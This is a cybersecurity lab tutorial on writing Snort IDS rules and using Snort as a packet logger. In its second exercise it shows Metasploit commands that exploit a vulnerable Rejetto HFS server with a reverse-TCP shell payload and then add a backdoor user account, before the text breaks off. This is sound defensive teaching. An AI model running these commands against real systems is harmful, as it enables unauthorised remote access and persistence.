Penetration testing

Basic snort rules syntax and usage [updated 2021]

March 1, 2021 by

In this series of lab exercises, we will demonstrate various techniques in writing Snort rules, from basic rules syntax to writing rules aimed at detecting specific types of attacks. We will also examine some basic approaches to rules performance analysis and optimization.

FREE role-guided training plans

FREE role-guided training plans

Get 12 cybersecurity training plans — one for each of the most common roles requested by employers.

Exercise 1: Snort as an IDS

Snort is most well known as an IDS. From the website:

“Snort® is an open source network intrusion prevention and detection system (IDS/IPS) developed by Sourcefire. Combining the benefits of signature, protocol, and anomaly-based inspection, Snort is the most widely deployed IDS/IPS technology worldwide. With millions of downloads and nearly 400,000 registered users, Snort has become the de facto standard for IPS.”

It should also be mentioned that Sourcefire was acquired by Cisco in early October 2013.

Snort can essentially run in three different modes: IDS mode, logging mode and sniffer mode. We are going to be using Snort in this part of the lab in IDS mode, then later use it as a packet logger. We’ll be using the Ubuntu Server VM, the Windows Server 2012 R2 VM and the Kali Linux VM for this lab.

You have Snort version 2.9.8 installed on your Ubuntu Server VM. Launch your Ubuntu Server VM, log on with credentials provided at the beginning of this guide and open a terminal shell by double-clicking the Desktop shortcut.(Alternatively, you can press Ctrl+Alt+T to open a new shell.)

To verify the Snort version, type in snort -V and hit Enter.

Next, we need to configure our HOME_NET value: the network we will be protecting. First, enter ifconfig in your terminal shell to see the network configuration. Note the IP address and the network interface value. See the image below (your IP may be different).

Next, type the following command to open the snort configuration file in gedit text editor:

sudo gedit /etc/snort/snort.conf

Enter the password for Ubuntu Server. When the snort.conf file opens, scroll down until you find the ipvar HOME_NET setting. You’ll want to change the IP address to be your actual class C subnet. Currently, it should be You’ll simply change the IP address part to match your Ubuntu Server VM IP, making sure to leave the “.0/24 on the end.

Select Save from the baron top and close the file. At this point, Snort is ready torun. Except, it doesn’t have any rules loaded. To verify, run the following command:

sudo snort -T -i eth0 -c /etc/snort/snort.conf

Here we are telling Snort to test (-T) the configuration file (-c points to its location) on the eth0 interface (enter your interface value if it’s different). This will produce a lot of output. Scroll up until you see “0 Snort rules read” (see the image below).

Let’s walk through the syntax of this rule:

Rule headers

  • alert – Rule action. Snort will generate an alert when the set condition is met.
  • any – Source IP. Snort will look at all sources.
  • any – Source port. Snort will look at all ports.
  • -> – Direction. From source to destination.
  • $HOME_NET – Destination IP. We are using the HOME_NET value from the snort.conf file.
  • any – Destination port. Snort will look at all ports on the protected network.

Rule options:• msg:”ICMP test” – Snort will include this message with the alert.
  • sid:1000001 – Snort rule ID. Remember all numbers smaller than 1,000,000 are reserved; this is why we are starting with 1,000,001. (You may use any number, as long as it’s greater than 1,000,000.)
  • rev:1 – Revision number. This option allows for easier rule maintenance.
  • classtype:icmp-event – Categorizes the rule as an “icmp-event”, one of the predefined Snort categories. This option helps with rule organization.

Click Save and close the file. Now let’s run the Snort configuration test command again:

sudo snort -T -i eth0 -c /etc/snort/snort.conf

If you scroll up, you should see that one rule has been loaded.

Now, let's start Snort in IDS mode and tell it to display alerts to the console:

sudo snort -A console -q -c /etc/snort/snort.conf -i eht0

Again, we are pointing Snort to the configuration file it should use (-c) and specifying the interface (-i eth0). The -A console option prints alerts to standard output, and -q is for “quiet” mode (not showing banner and status report). You shouldn’t see any output when you enter the command because Snort hasn’t detected any activity specified in the rule we wrote.

Let’s generate some activity and see if our rule is working.

Launch your Kali Linux VM. You may need to enter startx afterentering credentials to get to the GUI. Once there, open a terminal shell by clicking the icon on the top menu bar.

Now start pinging your Ubuntu Server with the following command (use your Ubuntu Server IP instead of .x.x):

ping 192.168.x.x

Let it run for a couple of seconds and hit Ctrl+C to stop and return to prompt.

Now return to your Ubuntu Server running Snort IDS. You should see alerts generated for every ICMP Echo request and Echo reply message, with the message text we specified in the msg option:

We can also see the source IP address of the host responsible for the alert-generating activity. In the example above, it is; yours may be different (but it will be the IP of your Kali Linux VM). Our test rule is working! Hit Ctrl+C to stop Snort and return to prompt.Now let’s write another rule, this time, a bit more specific. Open our local.rules file in a text editor:

sudo gedit /etc/snort/rules/local.rules

First, let’s comment out our first rule. Put a pound sign (#) in front of it. On a new line, write the following rule (using your Kali Linux IP for x.x):

alert tcp 192.168.x.x any -> $HOME_NET 21 (msg:"FTP connection attempt"; sid:1000002; rev:1;)

Here we changed the protocol to TCP, used a specific source IP, set the destination port number to 21 (default port for FTP connections) and changed the alert message text. Save and close the file. Now let’s run Snort in IDS mode again, but this time, we are going to add one more option, as follows:

sudo snort -A console -q -c /etc/snort/snort.conf -i eht0 -K ascii

We are telling Snort to log generated alerts in the ASCII format rather than the default pcap. Once Snort is running (again, you won’t see any output right away), go to your Kali Linux VM and enter the following command in a terminal shell (using your Ubuntu Server IP address):

ftp 192.168.x.x

Go back to Ubuntu Server. You should see that an alert has been generated.

To make sure that the rule is not generating any false positives, you can open another terminal shell on Ubuntu Server VM and try connecting to the same FTP server. You shouldn’t see any new alerts. Hit Ctrl+C to stop Snort.

Now run the following command to do the listing of the Snort log directory:ls /var/log/snort

You should see something similar to the following image:

The snort.log.* file (you may have more than one if you generated more than one alert-generating activity earlier) is the .pcap log file. It cannot be read with a text editor. The IP address that you see (yours will be different from the image) is the source IP for the alert we just saw for our FTP rule. It is a directory. Let’s see what’s inside:

sudo ls /var/log/snort/192.168.x.x

You can see there’s a file there named after the protocol (TCP) and the port numbers involved in the activity. We can read this file with a text editor or just use the cat command:

sudo cat /var/log/snort/192.168.x.x/TCP:4561-21

We get the same information as we saw in the console output with some additional details.

How about the .pcap files? We can use Wireshark, a popular network protocol analyzer, to examine those. Enter sudo wireshark to start the program. Click OK to acknowledge the error/warning messages that pop up. Once at the Wireshark main window, go to File → Open.

Browse to the /var/log/snort directory, select the snort.log.* file and click Open.

A lot more information here! Click to expand any of the items in the middle pane. Now we can look at the contents of each packet.

Close Wireshark. We will use it a lot throughout the labs.

What should you learn next?

What should you learn next?From SOC Analyst to Secure Coder to Security Manager — our team of experts has 12 free training plans tohelp you hit your goals. Get your free copy now.

For our next rule, let’s write one that looks for some content, in addition to protocols, IPs and port numbers. First, we need to generate some activity that will provide us with the content needed for a rule.

Launch your Windows Server 2012 R2 VM and log in with credentials provided at the beginning of this guide. This VM has an FTP server running on it. First, find out the IP address of your Windows Server 2102 R2 VM. You can do this by opening the command prompt from the desktop shortcut and entering ipconfig.

Note the “IPv4 Address” value (yours may be different from the image). Now go back to your Ubuntu Server VM and enter ftp 192.168.x.x (using the IP address you just looked up). When prompted for name and password, just hit Enter. Examine the output.

As we can see, entering invalid credentials results in a message that says “Login or password incorrect.” Now we have enough information to write our rule. Enter quit to exit FTP and return to prompt. Open our local.rules file again:

sudo gedit /etc/snort/rules/local.rules

Since we will be working with this file a lot, you may leave it open and start up a new terminal shell to enter commands.

Add the following rule on the new line:alert tcp $HOME_NET 21 -> any any (msg:"FTP failed login"; content:"Login or password incorrect"; sid:1000003; rev:1;)

Notice that now we set the HOME_NET value as our source IP, because we will be looking for the outgoing FTP server responses. Save the file. Now let's test the rule. Start Snort in IDS mode:

sudo snort -A console -q -c /etc/snort/snort.conf -i eht0

Now go to your Kali Linux VM and try connecting to the FTP server on Windows Server 2012 R2 (ftp 192.168.x.x), entering any values for Name and Password. Enter quit to return to prompt. Go back to the Ubuntu Server VM. You should see several alerts generated by both active rules that we have loaded into Snort. Hit CTRL+C to stop Snort.

Exercise 2: Snort as a packet logger

With the rapidly changing attack landscape and vectors out there today, we might not even know what weshould be looking for until we’ve seen the attack. Then perhaps, after examining that traffic, we could create a rule for that specific “new” attack. This is exactly how the default publicly-available Snort rules are created. We’ll now run Snort in logging mode and see what we’re able to identify the traffic based on the attacks that we do.

In this exercise, we will simulate an attack on our Windows Server while running Snort in packet-logging mode. Then we will examine the logged packets to see if we can identify an attack signature.

Make sure that all three VMs (Ubuntu Server, Windows Server and Kali Linux) are running. On your Kali Linux VM, enter the following into a terminal shell:


This will launch Metasploit Framework, a popular penetration testing platform. It will take a few seconds to load. Ignore the database connection error. Wait until you see the msf> prompt. Once there, enter the following series of commands:

use exploit/windows/http/rejetto_hfs_exec

set PAYLOAD windows/shell/reverse_tcp

set LHOST 192.168.x.x (Kali Linux VM IP address)

set RHOST 192.168.x.x (Windows Server 2012 R2 VM IP address)

set RPORT 8081

Here we configured an exploit against a vulnerable version of Rejetto HFS HTTP File server that is running on our Windows Server 2012 R2 VM.

Before running the exploit, we need to start Snort in packet logging mode. Go to your Ubuntu Server VM and enter the following command in a terminal shell:

sudo snort -dev -q -l /var/log/snort -i eth0

You won’t see any output. Now go back to the msf exploit you have configured on the Kali Linux VM andenter exploit. If the exploit was successful, you should end up with a command shell:

Now that we have access to the system, let's do the following:

Create a new user account:

net user accountname P@ssword12 /ADD

Change directories to c:


